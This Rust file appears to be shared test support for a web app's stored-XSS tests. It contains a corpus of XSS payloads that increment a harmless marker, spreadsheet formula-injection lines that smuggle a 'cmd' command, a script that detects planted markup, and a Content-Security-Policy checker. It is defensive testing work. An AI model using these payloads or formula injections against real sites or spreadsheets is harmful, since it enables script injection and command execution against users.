//! The stored-XSS corpus and the checks every XSS test shares: classic payloads that call a
//! marker function instead of `alert`, a script that finds planted markup in a page, and
//! what a Content-Security-Policy must say. Shared by the web UI's browser test and the
//! CLI's test (`crates/riskreg/tests/xss.rs` includes this file by path).

#![allow(dead_code)] // Each test binary uses a different part.

/// What every payload that runs calls: it counts, so a test can tell none ran.
pub const MARKER: &str = "window.__xss=(window.__xss||0)+1";

/// What a payload does when it lands in a page unescaped.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Runs the marker as the page loads.
    Runs,
    /// Plants markup that runs on a click, a focus, a toggle or a later navigation: found
    /// by [`INSPECT_JS`] rather than by the marker.
    Plants,
    /// Text that only a template engine, a decoder, a Markdown renderer or a spreadsheet
    /// would turn into something else: it must be shown exactly as typed.
    Inert,
}

#[derive(Debug, Clone)]
pub struct Payload {
    pub text: String,
    pub kind: Kind,
}

/// The corpus: every payload at most 200 characters (riskreg's longest short label) with
/// no leading or trailing space (riskreg trims text) and no line break.
pub fn corpus() -> Vec<Payload> {
    let m = MARKER;
    let runs = [
        format!("<script>{m}</script>"),
        format!("<img src=x onerror={m}>"),
        format!("<svg onload={m}>"),
        format!("<svg><script>{m}</script></svg>"),
        format!("\"><img src=x onerror={m}>"),
        format!("'><svg onload={m}>"),
        format!("</textarea><script>{m}</script>"),
        format!("</title></style></script><script>{m}</script>"),
        "<iframe srcdoc=\"<script>parent.__xss=(parent.__xss||0)+1</script>\"></iframe>".to_owned(),
        format!("<IMG SRC=x OnErRoR={m}>"),
        "<img src=x onerror=&#119;indow.__xss=(window.__xss||0)+1>".to_owned(),
        format!("<noscript><p title=\"</noscript><img src=x onerror={m}>\">"),
    ];
    let plants = [
        format!("\" autofocus onfocus=\"{m}\" x=\""),
        format!("' autofocus onfocus='{m}' x='"),
        format!("<a href=\"javascript:{m}\">click</a>"),
        format!("javascript:{m}"),
        format!("<a href=\"jav&#x09;ascript:{m}\">tab</a>"),
        format!("<details open ontoggle={m}>"),
        format!("<body onload={m}>"),
        format!("<div style=\"width:expression({m})\">old IE</div>"),
        format!("<style>@import 'javascript:{m}';</style>"),
        format!("<object data=\"javascript:{m}\"></object>"),
        format!("<math><mtext><table><mglyph><style><img src=x onerror={m}>"),
        "<base href=\"javascript:/\">".to_owned(),
        format!("<form action=\"javascript:{m}\"><button>go</button></form>"),
    ];
    let inert = [
        "{{constructor.constructor('window.__xss=(window.__xss||0)+1')()}}".to_owned(),
        format!("{{{{7*7}}}} ${{{m}}} <%= 7*7 %> #{{7*7}} {{% raw %}}"),
        format!("[x](javascript:{m})"),
        format!("&lt;script&gt;{m}&lt;/script&gt;"),
        "%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E".to_owned(),
        format!("\\u003cimg src=x onerror={m}\\u003e"),
        format!("\u{ff1c}script\u{ff1e}{m}\u{ff1c}/script\u{ff1e}"),
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")".to_owned(),
        "+SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        "@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        "-2+3+cmd|' /C calc'!A0".to_owned(),
    ];
    let tag = |kind: Kind| move |text: String| Payload { text, kind };
    let all: Vec<Payload> = runs
        .into_iter()
        .map(tag(Kind::Runs))
        .chain(plants.into_iter().map(tag(Kind::Plants)))
        .chain(inert.into_iter().map(tag(Kind::Inert)))
        .collect();
    for p in &all {
        assert!(
            p.text.chars().count() <= 200 && p.text.trim() == p.text && !p.text.contains('\n'),
            "{:?}",
            p.text
        );
    }
    all
}

/// Payloads that start like a spreadsheet formula.
pub fn formulas() -> Vec<String> {
    corpus()
        .into_iter()
        .map(|p| p.text)
        .filter(|t| t.starts_with(['=', '+', '-', '@']))
        .collect()
}

/// Run as an asynchronous WebDriver script, after a moment for events queued at load (an
/// image's error, a toggle) to fire. Takes the texts the page should show as text and
/// returns `{xss, findings, shown}`: how often the marker ran in this page, any markup
/// riskreg never writes itself (so planted), and the indexes of the texts the page shows
/// exactly as typed.
pub const INSPECT_JS: &str = r#"
const expected = arguments[0];
const done = arguments[arguments.length - 1];
setTimeout(() => {
  const findings = [];
  const origin = location.origin;
  const asset = (v) => {
    try { return origin !== 'null' && new URL(v, location.href).href.startsWith(origin + '/assets/'); }
    catch (e) { return false; }
  };
  const never = new Set(['iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'noscript',
    'template', 'math', 'animate', 'set', 'animatemotion', 'animatetransform', 'foreignobject', 'portal',
    'xmp', 'plaintext', 'listing', 'marquee', 'isindex', 'img', 'video', 'audio', 'source', 'image']);
  const urls = new Set(['href', 'src', 'action', 'formaction', 'data', 'srcdoc', 'xlink:href', 'background',
    'poster', 'codebase', 'ping', 'lowsrc', 'dynsrc', 'manifest']);
  for (const el of document.querySelectorAll('*')) {
    const tag = el.localName.toLowerCase();
    const where = tag + (el.id ? '#' + el.id : '');
    if (never.has(tag)) findings.push('<' + tag + '>');
    if (tag === 'script' && !(el.hasAttribute('src') && asset(el.getAttribute('src'))))
      findings.push('script ' + (el.getAttribute('src') || 'inline: ' + el.textContent.slice(0, 80)));
    if (tag === 'link' && !asset(el.getAttribute('href') || '')) findings.push('link ' + el.getAttribute('href'));
    if (tag === 'meta' && el.hasAttribute('http-equiv')) findings.push('meta http-equiv');
    if (tag === 'style' && !el.closest('head')) findings.push('<style> in the body');
    if (tag === 'form' && el.hasAttribute('action') && !el.getAttribute('action').startsWith('/'))
      findings.push('form action ' + el.getAttribute('action'));
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      const value = a.value.replace(/[\u0000-\u0020\u007f-\u00a0]+/g, '').toLowerCase();
      if (name.startsWith('on')) findings.push(where + ' ' + name + '=' + a.value.slice(0, 80));
      if (urls.has(name) && /^(javascript|vbscript|data):/.test(value)) findings.push(where + ' ' + name + '=' + a.value.slice(0, 80));
      if (name === 'srcdoc') findings.push(where + ' srcdoc');
      if (name === 'style' && /expression|javascript:|url\(|@import|behaviou?r/.test(value)) findings.push(where + ' style=' + a.value);
    }
  }
  const text = document.documentElement.textContent;
  const shown = [];
  expected.forEach((t, i) => { if (text.includes(t)) shown.push(i); });
  done({ xss: window.__xss === undefined ? 0 : window.__xss, findings: findings, shown: shown });
}, 100);
"#;

/// What is wrong with a response's Content-Security-Policy for an HTML page, if anything:
/// it must exist, allow no inline or evaluated script and no script from elsewhere (by
/// `script-src`, or by `default-src 'none'` without one), never be framed, and fix the
/// base URL.
pub fn csp_problem(csp: Option<&str>) -> Option<String> {
    let Some(csp) = csp else {
        return Some("no Content-Security-Policy".into());
    };
    let directive = |name: &str| -> Option<Vec<String>> {
        csp.split(';').map(str::trim).find_map(|d| {
            let mut words = d.split_whitespace();
            (words.next()?.eq_ignore_ascii_case(name)).then(|| words.map(str::to_ascii_lowercase).collect())
        })
    };
    let scripts = match (directive("script-src"), directive("default-src")) {
        (Some(s), _) => s,
        (None, Some(d)) if d == ["'none'"] => d,
        _ => return Some(format!("neither script-src nor default-src 'none': {csp}")),
    };
    let loose = [
        "'unsafe-inline'",
        "'unsafe-eval'",
        "'unsafe-hashes'",
        "'wasm-unsafe-eval'",
        "*",
        "data:",
        "blob:",
        "http:",
        "https:",
        "filesystem:",
    ];
    if let Some(bad) = scripts
        .iter()
        .find(|s| loose.contains(&s.as_str()) || s.contains("://"))
    {
        return Some(format!("scripts allowed from {bad}: {csp}"));
    }
    if directive("frame-ancestors").as_deref() != Some(&["'none'".to_owned()][..]) {
        return Some(format!("may be framed: {csp}"));
    }
    if directive("base-uri").as_deref() != Some(&["'none'".to_owned()][..]) {
        return Some(format!("base-uri not 'none': {csp}"));
    }
    None
}

/// Markup or a link in a Markdown paper that riskreg did not write: riskreg writes only
/// `<br>`, `<del>` and `<ins>`, and no links.
pub fn markdown_problem(md: &str) -> Option<String> {
    const OURS: [&str; 5] = ["<br>", "<del>", "</del>", "<ins>", "</ins>"];
    let around = |i: usize| -> String { md[i..].chars().take(60).collect() };
    for (i, _) in md.match_indices('<') {
        let next = md[i + 1..].chars().next().unwrap_or(' ');
        if !OURS.iter().any(|t| md[i..].starts_with(t)) && (next.is_ascii_alphabetic() || "/!?".contains(next)) {
            return Some(format!("markup at {:?}", around(i)));
        }
    }
    md.match_indices("](")
        .find(|(i, _)| !md[..*i].ends_with('\\'))
        .map(|(i, _)| format!("a link at {:?}", around(i)))
}

/// Text escaped for HTML, as riskreg's templates escape it.
pub fn escape_html(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#39;")
}

/// A page with `text` written into it as it stands, in each place riskreg writes text: the
/// title, an element, a double- and a single-quoted attribute, a textarea and, if `link`,
/// a link's address (where escaping alone would not stop a `javascript:` URL). Given a
/// payload unescaped, it shows what a missed escape would let through; given it escaped
/// and no link, it must be clean.
pub fn control_page(text: &str, link: bool) -> String {
    let link = if link {
        format!("<p><a href=\"{text}\">a link</a></p>")
    } else {
        String::new()
    };
    format!(
        "<!doctype html><html><head><meta charset=utf-8><title>{text}</title></head><body>\
         <p>{text}</p><p><input value=\"{text}\"></p><p title='{text}'>single</p>{link}\
         <textarea>{text}</textarea></body></html>"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn riskreg_policies_pass_and_loose_ones_do_not() {
        assert_eq!(
            csp_problem(Some(
                "default-src 'none'; script-src 'self'; frame-ancestors 'none'; base-uri 'none'"
            )),
            None
        );
        assert!(csp_problem(None).is_some());
        assert!(
            csp_problem(Some(
                "script-src 'self' 'unsafe-inline'; frame-ancestors 'none'; base-uri 'none'"
            ))
            .is_some()
        );
        assert!(csp_problem(Some("default-src 'self'; frame-ancestors 'none'; base-uri 'none'")).is_some());
    }

    #[test]
    fn markdown_with_markup_or_a_link_is_caught() {
        assert_eq!(
            markdown_problem(r"a<br>b <del>c</del> \[x\](javascript:y) &lt;img&gt;"),
            None
        );
        assert!(markdown_problem("<img src=x>").is_some());
        assert!(markdown_problem("[x](javascript:y)").is_some());
    }
}
